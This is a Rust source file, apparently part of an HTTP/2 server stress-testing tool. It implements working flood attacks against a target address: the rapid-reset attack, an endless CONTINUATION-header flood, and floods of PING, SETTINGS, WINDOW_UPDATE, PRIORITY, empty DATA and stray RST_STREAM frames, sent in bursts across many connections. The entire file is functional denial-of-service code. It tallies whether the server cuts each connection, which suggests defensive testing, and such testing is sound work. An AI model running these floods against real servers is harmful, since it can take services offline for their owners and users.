//! Frames without end: cheap to send, some work to receive.

use std::{io, net::SocketAddr, time::Instant};

use super::{Outcome, Scale, enemy::Enemy};
use crate::{
    frames::{self, put},
    hpack::literal_block,
};

/// Frames that are written at once.
const BURST: u64 = 512;

/// Floods one connection after the other, each as far as the server lets it.
fn flood(
    address: SocketAddr,
    scale: &Scale,
    mut start: impl FnMut(&mut Enemy, &mut Vec<u8>),
    mut frame: impl FnMut(&mut Enemy, &mut Vec<u8>),
) -> io::Result<Outcome> {
    let deadline = scale.deadline();
    let mut outcome = Outcome::default();
    for index in 0..scale.connections {
        let mut enemy = Enemy::greet(address, &[])?;
        outcome.opened += 1;
        let mut burst = Vec::new();
        start(&mut enemy, &mut burst);
        let left = deadline.saturating_duration_since(Instant::now());
        let until = Instant::now() + left / (scale.connections - index) as u32;
        loop {
            (0..BURST).for_each(|_| frame(&mut enemy, &mut burst));
            let goes_on = enemy.push(&burst, until);
            outcome.sent += BURST;
            burst.clear();
            enemy.drain();
            if !goes_on || enemy.is_ended() || Instant::now() > until {
                break;
            }
        }
        outcome.ended += u64::from(enemy.is_ended());
        outcome.answer = enemy.verdict().or(outcome.answer);
        enemy.reset();
    }
    Ok(outcome)
}

fn nothing(_: &mut Enemy, _: &mut Vec<u8>) {}

pub(super) fn rapid_reset(address: SocketAddr, scale: &Scale) -> io::Result<Outcome> {
    // A server ends the connection long before; the rest comes on the next.
    let mut outcome = Outcome::default();
    let deadline = scale.deadline() + scale.duration;
    while outcome.sent < scale.resets && Instant::now() < deadline {
        let one = Scale { connections: 1, duration: scale.duration / 4, ..*scale };
        let part = flood(address, &one, nothing, |enemy, out| {
            let stream = enemy.put_call(out, &[]);
            put(out, frames::RST_STREAM, 0, stream, &8u32.to_be_bytes());
        })?;
        outcome.sent += part.sent;
        outcome.opened += part.opened;
        outcome.ended += part.ended;
        outcome.answer = part.answer.or(outcome.answer);
    }
    Ok(outcome)
}

pub(super) fn continuation(address: SocketAddr, scale: &Scale) -> io::Result<Outcome> {
    let block = literal_block(&[("x-endless", "and on, and on, and on")]);
    let start = |_: &mut Enemy, out: &mut Vec<u8>| {
        put(out, frames::HEADERS, 0, 1, &literal_block(&[(":method", "POST")]));
    };
    flood(address, scale, start, |_, out| put(out, frames::CONTINUATION, 0, 1, &block))
}

pub(super) fn ping(address: SocketAddr, scale: &Scale) -> io::Result<Outcome> {
    flood(address, scale, nothing, |_, out| put(out, frames::PING, 0, 0, b"are you?"))
}

pub(super) fn settings(address: SocketAddr, scale: &Scale) -> io::Result<Outcome> {
    flood(address, scale, nothing, |_, out| {
        frames::put_settings(out, &[(frames::INITIAL_WINDOW_SIZE, 65_535)]);
    })
}

pub(super) fn window_update(address: SocketAddr, scale: &Scale) -> io::Result<Outcome> {
    flood(address, scale, nothing, |_, out| frames::put_window_update(out, 0, 1))
}

pub(super) fn priority(address: SocketAddr, scale: &Scale) -> io::Result<Outcome> {
    let mut stream = 1;
    flood(address, scale, nothing, |_, out| {
        stream = (stream + 2) & 0x7fff_ffff;
        put(out, frames::PRIORITY, 0, stream, &[0, 0, 0, 0, 16]);
    })
}

pub(super) fn empty_data(address: SocketAddr, scale: &Scale) -> io::Result<Outcome> {
    let start = |enemy: &mut Enemy, out: &mut Vec<u8>| {
        enemy.put_call(out, &[]);
    };
    flood(address, scale, start, |_, out| put(out, frames::DATA, 0, 1, &[]))
}

pub(super) fn reset_unknown(address: SocketAddr, scale: &Scale) -> io::Result<Outcome> {
    let start = |enemy: &mut Enemy, out: &mut Vec<u8>| {
        let stream = enemy.put_call(out, &[]);
        put(out, frames::RST_STREAM, 0, stream, &8u32.to_be_bytes());
    };
    flood(address, scale, start, |_, out| {
        put(out, frames::RST_STREAM, 0, 1, &8u32.to_be_bytes());
    })
}
